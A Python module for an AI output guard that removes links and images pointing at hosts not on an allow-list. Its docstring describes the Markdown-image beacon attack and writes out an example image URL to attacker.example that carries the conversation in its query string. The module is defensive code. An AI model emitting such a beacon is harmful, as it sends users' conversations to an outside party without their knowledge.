"""Output guard `links`: an answer may link to, or embed images from, allow-listed hosts only.

A model talked into writing `![](https://attacker.example/p.png?q=<the conversation>)` leaks the
conversation the moment a browser renders the answer, without a click: the Markdown-image beacon.
This guard removes Markdown images and links, HTML `<img>` and `<a>`, reference-style link
definitions and bare URLs whose host is not allowed. An image becomes `[image removed: host]`, a
link keeps its text, a bare URL becomes `[link removed: host]`; `javascript:` and `data:` targets
are always removed. Hosts come from governance.yml `guards.allowed_link_hosts`; an entry allows the
host and its subdomains (`example.com` allows `docs.example.com`). Relative links stay.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

from .result import Action, Finding, GuardResult

_TARGET = r"<?((?:[^()\s>]|\([^()\s]*\))+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*"
_MARKDOWN_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*" + _TARGET + r"\)")
_MARKDOWN_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*" + _TARGET + r"\)")
_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+[\"'(][^\n]*)?$", re.M)
_HTML_IMAGE = re.compile(r"<img\b[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]+)[^>]*>", re.I)
_HTML_LINK = re.compile(r"<a\b[^>]*?\bhref\s*=\s*[\"']?([^\"'\s>]+)[^>]*>([\s\S]{0,500}?)</a\s*>", re.I)
_BARE_URL = re.compile(r"(?:\b(?:https?|ftp)://|\bwww\.)[^\s<>()\[\]\"'`]+", re.I)
_ALWAYS_REMOVED = ("javascript:", "data:", "vbscript:")


def host_of(target: str) -> str | None:
    """The lower-case host a link target points at; None for a relative link."""
    target = target.strip()
    if target.lower().startswith("www."):
        target = "http://" + target
    if "://" not in target and not target.startswith("//"):
        return None
    try:
        return (urlsplit(target).hostname or "").lower() or None
    except ValueError:
        return "invalid"


def _allowed(host: str, allowed: tuple[str, ...]) -> bool:
    return any(host == entry or host.endswith("." + entry) for entry in allowed)


@dataclass(frozen=True, slots=True, kw_only=True)
class LinkGuard:
    """Remove links and images to hosts not on `allowed_hosts` (`redact`), or refuse the text (`block`)."""

    allowed_hosts: tuple[str, ...] = ()
    action: Action = "redact"
    name: str = "links"

    def __post_init__(self) -> None:
        hosts = tuple(host.strip().lower().removeprefix("*.").rstrip(".") for host in self.allowed_hosts)
        object.__setattr__(self, "allowed_hosts", tuple(host for host in hosts if host))

    def untrusted(self, target: str) -> str | None:
        """Why `target` must go (`host` or the scheme), or None when it may stay."""
        if target.strip().lower().startswith(_ALWAYS_REMOVED):
            return target.strip().split(":", 1)[0].lower()
        host = host_of(target)
        if host is None or _allowed(host, self.allowed_hosts):
            return None
        return host

    def scan(self, text: str, *, prompt: str | None = None) -> GuardResult:
        lowered = text.lower()
        if "://" not in text and "www." not in lowered and ":" not in text:
            return GuardResult(self.name, "allow", text, 0.0)
        edits: list[tuple[int, int, str, str]] = []  # start, end, replacement, finding type

        def take(pattern: re.Pattern[str], kind: str, replace: Callable[[re.Match[str], str], str], url: int) -> None:
            for match in pattern.finditer(text):
                start, end = match.span()
                if any(start < other_end and other_start < end for other_start, other_end, _, _ in edits):
                    continue
                why = self.untrusted(match.group(url))
                if why is not None:
                    edits.append((start, end, replace(match, why), kind))

        take(_MARKDOWN_IMAGE, "image", lambda match, host: f"[image removed: {host}]", 2)
        take(_HTML_IMAGE, "image", lambda match, host: f"[image removed: {host}]", 1)
        take(_MARKDOWN_LINK, "link", lambda match, host: f"{match.group(1)} [link removed: {host}]", 2)
        take(_HTML_LINK, "link", lambda match, host: f"{match.group(2)} [link removed: {host}]", 1)
        take(_REFERENCE, "link", lambda match, host: f"[link removed: {host}]", 1)
        take(_BARE_URL, "link", lambda match, host: f"[link removed: {host}]", 0)
        if not edits:
            return GuardResult(self.name, "allow", text, 0.0)
        edits.sort()
        findings = tuple(Finding(f"untrusted_{kind}", start, end, 0.9) for start, end, _, kind in edits)
        return GuardResult(self.name, self.action, _apply(text, edits), 0.9, findings)


def _apply(text: str, edits: Iterable[tuple[int, int, str, str]]) -> str:
    for start, end, replacement, _ in sorted(edits, reverse=True):
        text = text[:start] + replacement + text[end:]
    return text
